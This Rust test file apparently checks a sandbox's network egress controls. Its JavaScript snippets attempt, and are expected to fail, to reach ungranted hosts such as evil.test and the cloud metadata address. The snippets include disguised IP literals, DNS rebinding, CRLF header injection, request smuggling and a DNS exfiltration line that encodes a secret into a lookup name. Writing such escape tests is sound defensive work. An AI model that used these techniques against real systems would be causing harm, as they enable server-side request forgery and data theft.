//! Attempts to reach hosts that are not granted.

use openneko_sandbox::egress::Reason;

use super::Expected::{Logs, Says, Unsupported};
use super::Why::{Exactly, NotPublic};
use super::{Attempt, Stop};

/// Fetches a URL and says whether anything came back.
macro_rules! fetches {
    ($url:expr) => {
        concat!(
            "try { const answer = await fetch(`",
            $url,
            "`); process.stdout.write('ESCAPED ' + answer.status); } catch (error) { process.stdout.write('refused'); }"
        )
    };
    ($url:expr, $options:expr) => {
        concat!(
            "try { const answer = await fetch(`",
            $url,
            "`, ",
            $options,
            "); process.stdout.write('ESCAPED ' + answer.status + await answer.text()); } catch (error) { process.stdout.write('refused'); }"
        )
    };
}

const NOT_GRANTED: super::Why = Exactly(&Reason::NotGranted);
const IP_LITERAL: super::Why = Exactly(&Reason::IpLiteral);

pub(crate) const TABLE: &[Attempt] = &[
    Attempt {
        name: "a granted host is reached",
        bundle: "const answer = await fetch('https://app.neko.test:PORT/echo', { method: 'POST', body: 'hello' });
                 const said = await answer.json();
                 process.stdout.write(said.method === 'POST' && said.body === 'hello' ? 'allowed' : JSON.stringify(said));",
        wasm: Says("allowed"),
        jail: Says("allowed"),
    },
    Attempt {
        name: "a redirect within the grant is followed",
        bundle: "const answer = await fetch('https://app.neko.test:PORT/redirect?/echo');
                 const said = await answer.json();
                 process.stdout.write(answer.redirected && said.url === '/echo' ? 'allowed' : JSON.stringify(said));",
        wasm: Says("allowed"),
        jail: Says("allowed"),
    },
    Attempt {
        name: "another host",
        bundle: fetches!("https://evil.test/"),
        wasm: Logs("refused", "evil.test", NOT_GRANTED),
        jail: Logs("refused", "evil.test", NOT_GRANTED),
    },
    Attempt {
        name: "the parent of a wildcard",
        bundle: fetches!("https://package.test/"),
        wasm: Logs("refused", "package.test", NOT_GRANTED),
        jail: Logs("refused", "package.test", NOT_GRANTED),
    },
    Attempt {
        name: "two labels under a wildcard",
        bundle: fetches!("https://a.b.package.test/"),
        wasm: Logs("refused", "a.b.package.test", NOT_GRANTED),
        jail: Logs("refused", "a.b.package.test", NOT_GRANTED),
    },
    Attempt {
        name: "localhost",
        bundle: fetches!("https://localhost:FORBIDDEN/"),
        wasm: Logs("refused", "localhost", NOT_GRANTED),
        jail: Logs("refused", "localhost", NOT_GRANTED),
    },
    Attempt {
        name: "an IPv4 address",
        bundle: fetches!("https://127.0.0.1:FORBIDDEN/"),
        wasm: Logs("refused", "127.0.0.1", IP_LITERAL),
        jail: Logs("refused", "127.0.0.1", IP_LITERAL),
    },
    Attempt {
        name: "an IPv4 address as one number",
        bundle: fetches!("https://2130706433:FORBIDDEN/"),
        wasm: Logs("refused", "127.0.0.1", IP_LITERAL),
        jail: Logs("refused", "127.0.0.1", IP_LITERAL),
    },
    Attempt {
        name: "an IPv4 address in octal and hexadecimal",
        bundle: fetches!("https://0177.0x0.1:FORBIDDEN/"),
        wasm: Logs("refused", "127.0.0.1", IP_LITERAL),
        jail: Logs("refused", "127.0.0.1", IP_LITERAL),
    },
    Attempt {
        name: "an IPv6 address",
        bundle: fetches!("https://[::1]:FORBIDDEN/"),
        wasm: Logs("refused", "[::1]", IP_LITERAL),
        jail: Logs("refused", "::1", IP_LITERAL),
    },
    Attempt {
        name: "an IPv4 address inside an IPv6 one",
        bundle: fetches!("https://[::ffff:127.0.0.1]:FORBIDDEN/"),
        wasm: Logs("refused", "[::ffff:7f00:1]", IP_LITERAL),
        jail: Says("refused"),
    },
    Attempt {
        name: "the metadata service of a cloud",
        bundle: fetches!("http://169.254.169.254/latest/meta-data/"),
        wasm: Logs("refused", "169.254.169.254", Exactly(&Reason::PlainHttp)),
        jail: Logs("refused", "169.254.169.254", IP_LITERAL),
    },
    Attempt {
        name: "another port of a granted host",
        bundle: fetches!("https://app.neko.test:FORBIDDEN/"),
        wasm: Logs("refused", "app.neko.test", Exactly(&Reason::Port)),
        jail: Logs("refused", "app.neko.test", Exactly(&Reason::Port)),
    },
    Attempt {
        name: "plain HTTP to a granted host",
        bundle: fetches!("http://app.neko.test:PORT/"),
        wasm: Logs("refused", "app.neko.test", Exactly(&Reason::PlainHttp)),
        jail: Logs("refused", "app.neko.test", Exactly(&Reason::NotTls)),
    },
    Attempt {
        name: "a user name in front of the host",
        bundle: fetches!("https://app.neko.test:PORT@evil.test/"),
        wasm: Says("refused"),
        jail: Says("refused"),
    },
    Attempt {
        name: "a redirect to another host",
        bundle: fetches!("https://app.neko.test:PORT/redirect?https://evil.test/"),
        wasm: Logs("refused", "evil.test", NOT_GRANTED),
        jail: Logs("refused", "evil.test", NOT_GRANTED),
    },
    Attempt {
        name: "a redirect to an address",
        bundle: fetches!("https://app.neko.test:PORT/redirect?https://127.0.0.1:FORBIDDEN/"),
        wasm: Logs("refused", "127.0.0.1", IP_LITERAL),
        jail: Logs("refused", "127.0.0.1", IP_LITERAL),
    },
    Attempt {
        name: "a redirect to plain HTTP",
        bundle: fetches!("https://app.neko.test:PORT/temporary?http://app.neko.test:FORBIDDEN/", "{ method: 'POST', body: 'secret' }"),
        wasm: Logs("refused", "app.neko.test", Exactly(&Reason::PlainHttp)),
        jail: Logs("refused", "app.neko.test", Exactly(&Reason::Port)),
    },
    Attempt {
        name: "a granted name that leads to this machine",
        bundle: fetches!("https://loopback.package.test/"),
        wasm: Logs("refused", "loopback.package.test", NotPublic),
        jail: Logs("refused", "loopback.package.test", NotPublic),
    },
    Attempt {
        name: "a granted name that leads to an IPv4-mapped address",
        bundle: fetches!("https://mapped.package.test/"),
        wasm: Logs("refused", "mapped.package.test", NotPublic),
        jail: Logs("refused", "mapped.package.test", NotPublic),
    },
    Attempt {
        name: "a granted name that leads to the metadata service",
        bundle: fetches!("https://metadata.package.test/"),
        wasm: Logs("refused", "metadata.package.test", NotPublic),
        jail: Logs("refused", "metadata.package.test", NotPublic),
    },
    Attempt {
        name: "a granted name with a public and a private address",
        bundle: fetches!("https://mixed.package.test/"),
        wasm: Logs("refused", "mixed.package.test", NotPublic),
        jail: Logs("refused", "mixed.package.test", NotPublic),
    },
    Attempt {
        name: "a name that changes its address between two requests",
        bundle: "const first = await fetch('https://rebind.neko.test:PORT/').then(() => 1, () => 0);
                 const later = await fetch('https://rebind.neko.test:PORT/').then(() => 1, () => 0);
                 process.stdout.write(first === 1 && later === 0 ? 'refused' : `ESCAPED ${first} ${later}`);",
        wasm: Logs("refused", "rebind.neko.test", NotPublic),
        jail: Logs("refused", "rebind.neko.test", NotPublic),
    },
    Attempt {
        name: "a server whose certificate is for another name",
        bundle: fetches!("https://wrong.neko.test:PORT/"),
        wasm: Logs("refused", "wrong.neko.test", Exactly(&Reason::Certificate)),
        jail: Says("refused"),
    },
    Attempt {
        name: "CONNECT",
        bundle: fetches!("https://app.neko.test:PORT/", "{ method: 'CONNECT' }"),
        wasm: Says("refused"),
        jail: Says("refused"),
    },
    Attempt {
        name: "a Host header of another host",
        bundle: "let said;
                 try {
                   const answer = await fetch('https://app.neko.test:PORT/echo', { headers: { host: 'evil.test' } });
                   said = (await answer.json()).headers.host;
                 } catch (error) { said = 'app.neko.test:PORT'; }
                 process.stdout.write(said === 'app.neko.test:PORT' ? 'refused' : 'ESCAPED ' + said);",
        wasm: Says("refused"),
        // TLS hides the header from the jail, whose boundary is the name in TLS.
        jail: Says("refused"),
    },
    Attempt {
        name: "a header that carries another request",
        bundle: fetches!(
            "https://app.neko.test:PORT/",
            r"{ headers: { 'x-a': 'b\r\n\r\nGET /evil HTTP/1.1\r\nHost: evil.test' } }"
        ),
        wasm: Says("refused"),
        jail: Says("refused"),
    },
    Attempt {
        name: "a length and a transfer coding that disagree",
        bundle: "let said = 'refused';
                 try {
                   const headers = { 'transfer-encoding': 'chunked', 'content-length': '4' };
                   const answer = await fetch('https://app.neko.test:PORT/echo', { method: 'POST', headers, body: '0\\r\\n\\r\\nGET /evil HTTP/1.1\\r\\n\\r\\n' });
                   const echo = await answer.json();
                   if (echo.headers['transfer-encoding'] && echo.headers['content-length']) said = 'ESCAPED';
                   if (!echo.body.includes('/evil')) said = 'ESCAPED';
                 } catch (error) {}
                 process.stdout.write(said);",
        wasm: Says("refused"),
        jail: Says("refused"),
    },
    Attempt {
        name: "raw TCP",
        bundle: "import net from 'node:net';
                 const socket = net.connect(FORBIDDEN, '127.0.0.1');
                 socket.on('connect', () => { process.stdout.write('ESCAPED'); process.exit(0); });
                 socket.on('error', () => { process.stdout.write('refused'); process.exit(0); });",
        wasm: Unsupported("`node:net`"),
        jail: Logs("refused", "127.0.0.1", IP_LITERAL),
    },
    Attempt {
        name: "UDP",
        bundle: "import dgram from 'node:dgram';
                 const socket = dgram.createSocket('udp4');
                 socket.on('error', () => { process.stdout.write('refused'); process.exit(0); });
                 socket.on('message', () => { process.stdout.write('ESCAPED'); process.exit(0); });
                 // The jail takes it and lets it go nowhere, so that it is seen.
                 socket.send('hello', FORBIDDEN, '192.0.2.1', () => setTimeout(() => { process.stdout.write('refused'); process.exit(0); }, 300));",
        wasm: Unsupported("`node:dgram`"),
        jail: Logs("refused", "192.0.2.1", Exactly(&Reason::Protocol)),
    },
    Attempt {
        name: "data in the names that are looked up",
        bundle: "import dns from 'node:dns/promises';
                 const tell = Buffer.from('a secret').toString('hex');
                 const found = await dns.lookup(tell + '.evil.test').then(() => true, () => false);
                 process.stdout.write(found ? 'ESCAPED' : 'refused');",
        wasm: Unsupported("`node:dns/promises`"),
        jail: Logs("refused", "6120736563726574.evil.test", NOT_GRANTED),
    },
    Attempt {
        name: "a WebSocket",
        bundle: "if (typeof WebSocket === 'undefined') { process.stdout.write('refused'); } else {
                   const socket = new WebSocket('wss://evil.test/');
                   socket.onopen = () => { process.stdout.write('ESCAPED'); process.exit(0); };
                   socket.onerror = () => { process.stdout.write('refused'); process.exit(0); };
                 }",
        wasm: Says("refused"),
        jail: Says("refused"),
    },
    Attempt {
        name: "more connections at once than allowed",
        bundle: "const all = await Promise.allSettled(Array.from({ length: 40 }, () => fetch('https://app.neko.test:PORT/slow', { signal: AbortSignal.timeout(1500) })));
                 process.stdout.write(all.some((one) => one.status === 'fulfilled') ? 'ESCAPED' : 'refused');
                 process.exit(0);",
        wasm: Logs("refused", "app.neko.test", Exactly(&Reason::Connections)),
        jail: super::Expected::Either(Stop::Any, "refused"),
    },
    Attempt {
        name: "more bytes sent than allowed",
        bundle: fetches!("https://app.neko.test:PORT/echo", "{ method: 'POST', body: 'x'.repeat(2 << 20) }"),
        wasm: Logs("refused", "app.neko.test", Exactly(&Reason::Bytes)),
        jail: Logs("refused", "app.neko.test", Exactly(&Reason::Bytes)),
    },
    Attempt {
        name: "more bytes in many requests than allowed",
        bundle: "const body = 'x'.repeat(100 << 10);
                 const all = await Promise.allSettled(Array.from({ length: 60 }, () => fetch('https://app.neko.test:PORT/echo', { method: 'POST', body })));
                 process.stdout.write(all.filter((one) => one.status === 'fulfilled').length > 11 ? 'ESCAPED' : 'refused');
                 process.exit(0);",
        wasm: Logs("refused", "app.neko.test", Exactly(&Reason::Bytes)),
        jail: super::Expected::Either(Stop::Any, "refused"),
    },
    Attempt {
        name: "a giant answer",
        bundle: "const text = await fetch('https://app.neko.test:PORT/big?8388608').then((answer) => answer.text()).catch(() => '');
                 process.stdout.write(text.length === 8388608 ? 'ESCAPED' : 'refused');",
        wasm: Logs("refused", "app.neko.test", Exactly(&Reason::Bytes)),
        jail: Logs("refused", "app.neko.test", Exactly(&Reason::Bytes)),
    },
];
